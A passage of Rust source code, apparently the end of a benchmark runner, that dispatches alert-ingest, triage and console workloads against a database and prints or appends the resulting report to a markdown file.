            } => store_ingest(alerts, batch, rounds, database_url.clone()).await,
            Suite::Triage {
                ref database_url,
                alerts,
                incidents,
                iterations,
                reuse,
            } => triage::triage(database_url.clone(), alerts, incidents, iterations, reuse).await,
            Suite::Console {
                ref database_url,
                iterations,
            } => console::console(database_url.clone(), iterations).await,
        }
    })?;
    println!("{report}");
    if let Some(path) = &args.markdown {
        use std::io::Write;
        let mut f = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(path)?;
        writeln!(f, "{report}")?;
    }
    Ok(())
}
